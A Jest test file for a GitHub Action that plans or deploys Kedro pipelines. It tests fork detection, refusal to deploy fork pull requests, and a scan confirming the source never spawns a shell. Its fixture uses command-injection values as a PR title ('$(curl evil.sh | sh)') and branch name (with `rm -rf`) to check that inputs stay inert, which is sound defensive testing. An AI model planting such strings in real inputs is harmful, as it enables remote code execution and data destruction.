import { describe, expect, it } from "@jest/globals";
import { readdirSync, readFileSync } from "node:fs";
import { join } from "node:path";
import { readEventContext, type EventContext } from "../src/github/context.js";
import { checkEvent } from "../src/github/safety.js";

const repo = (id: number, fullName: string): Record<string, unknown> => ({ id, full_name: fullName });

function prPayload(head: Record<string, unknown> | null, number: number | undefined = 7): string {
  return JSON.stringify({
    number,
    pull_request: {
      number,
      title: "$(curl evil.sh | sh)",
      head: { ref: "feature/`rm -rf`", sha: "abc123", repo: head },
      base: { ref: "main", repo: repo(1, "octo/spaceflights") },
    },
    repository: repo(1, "octo/spaceflights"),
  });
}

function context(
  eventName: string,
  payload: string | undefined,
  extra: Record<string, string> = {},
): EventContext {
  return readEventContext(
    {
      GITHUB_EVENT_NAME: eventName,
      GITHUB_REPOSITORY: "octo/spaceflights",
      GITHUB_SHA: "f00d",
      GITHUB_RUN_ID: "4242",
      GITHUB_SERVER_URL: "https://github.com",
      ...(payload === undefined ? {} : { GITHUB_EVENT_PATH: "/event.json" }),
      ...extra,
    },
    (path) => {
      if (path !== "/event.json" || payload === undefined) throw new Error(`ENOENT: ${path}`);
      return payload;
    },
  );
}

describe("readEventContext", () => {
  it("reads a same-repository pull request", () => {
    const ctx = context("pull_request", prPayload(repo(1, "octo/spaceflights")));
    expect(ctx).toMatchObject({
      eventName: "pull_request",
      repo: { owner: "octo", repo: "spaceflights" },
      sha: "f00d",
      pullRequest: { number: 7, isFork: false, headRepo: "octo/spaceflights", headSha: "abc123" },
      runUrl: "https://github.com/octo/spaceflights/actions/runs/4242",
      warnings: [],
    });
  });

  it("detects forks by repository id, and a deleted fork as a fork", () => {
    expect(context("pull_request", prPayload(repo(2, "eve/spaceflights"))).pullRequest?.isFork).toBe(true);
    expect(context("pull_request", prPayload(null)).pullRequest).toMatchObject({
      isFork: true,
      headRepo: null,
    });
    // A renamed base still has the same id.
    expect(context("pull_request", prPayload(repo(1, "octo/old-name"))).pullRequest?.isFork).toBe(false);
  });

  it("warns about a pull request event without a number", () => {
    const ctx = context("pull_request", JSON.stringify({ action: "opened" }));
    expect(ctx.pullRequest).toBeNull();
    expect(ctx.warnings).toEqual([expect.stringContaining("no pull request number")]);
  });

  it("warns about an unreadable payload and goes on", () => {
    const ctx = context("push", "{not json");
    expect(ctx.warnings).toEqual([expect.stringMatching(/^Could not read the event payload \/event.json/)]);
    expect(context("push", undefined).warnings).toEqual([]);
  });

  it("points at the run attempt whose summary holds the plan", () => {
    expect(context("push", undefined, { GITHUB_RUN_ATTEMPT: "3" }).runUrl).toBe(
      "https://github.com/octo/spaceflights/actions/runs/4242/attempts/3",
    );
  });
});

describe("checkEvent", () => {
  const fork = context("pull_request", prPayload(repo(2, "eve/spaceflights")));
  const same = context("pull_request", prPayload(repo(1, "octo/spaceflights")));

  it.each(["pull_request", "pull_request_target"])("refuses to deploy a fork's %s", (eventName) => {
    const check = checkEvent({ ...fork, eventName }, "deploy", "deploy");
    expect(check.refusal).toMatchObject({ reason: "fork-deploy" });
    expect(check.refusal?.message).toContain("for a pull request from a fork (eve/spaceflights)");
    expect(check.refusal?.hint).toContain("mode");
  });

  it("refuses to deploy a pull request it cannot show comes from this repository", () => {
    const unknown = context("pull_request_target", JSON.stringify({}));
    expect(checkEvent(unknown, "deploy", "deploy").refusal?.reason).toBe("fork-deploy");
  });

  it("plans forks (warning about pull_request_target), deploys same-repository pull requests when asked", () => {
    expect(checkEvent(fork, "auto", "plan")).toEqual({ warnings: [] });
    expect(checkEvent({ ...fork, eventName: "pull_request_target" }, "auto", "plan").warnings).toEqual([
      expect.stringContaining("pull_request_target from a fork"),
    ]);
    expect(checkEvent(same, "deploy", "deploy")).toEqual({ warnings: [] });
  });

  it("refuses an event it does not handle under auto, naming the ones it does", () => {
    const check = checkEvent(context("issue_comment", undefined), "auto", "deploy");
    expect(check.refusal).toEqual({
      reason: "unsupported-event",
      message:
        "The issue_comment event is not handled by kedro-sfn-action in 'mode: auto'; it supports pull_request, pull_request_target, push, workflow_dispatch.",
      hint: "Trigger the workflow on one of those, or set 'mode: plan' or 'mode: deploy' to choose explicitly.",
    });
  });

  it("runs an unknown event with an explicit mode, with a warning", () => {
    const check = checkEvent(context("schedule", undefined), "deploy", "deploy");
    expect(check.refusal).toBeUndefined();
    expect(check.warnings).toEqual([expect.stringContaining("running 'deploy' because 'mode' says so")]);
  });

  it("passes context warnings through; nothing to check outside Actions", () => {
    expect(checkEvent(context("pull_request", "{}"), "auto", "plan").warnings).toHaveLength(1);
    expect(checkEvent(context("", undefined), "auto", "deploy")).toEqual({ warnings: [] });
  });
});

describe("nothing reaches a shell", () => {
  const files = (dir: string): string[] =>
    readdirSync(dir, { withFileTypes: true }).flatMap((e) =>
      e.isDirectory() ? files(join(dir, e.name)) : e.name.endsWith(".ts") ? [join(dir, e.name)] : [],
    );

  it("src/ never spawns through a shell (PR titles, branch and node names stay arguments)", () => {
    for (const file of files("src")) {
      const text = readFileSync(file, "utf8");
      expect({ file, shell: /\bshell\s*:\s*(true|["'`])/.test(text) }).toEqual({ file, shell: false });
      expect({
        file,
        exec: /import\s*\{[^}]*\bexec(Sync)?\b[^}]*\}\s*from\s*["'](node:)?child_process["']/.test(text),
      }).toEqual({
        file,
        exec: false,
      });
    }
  });
});
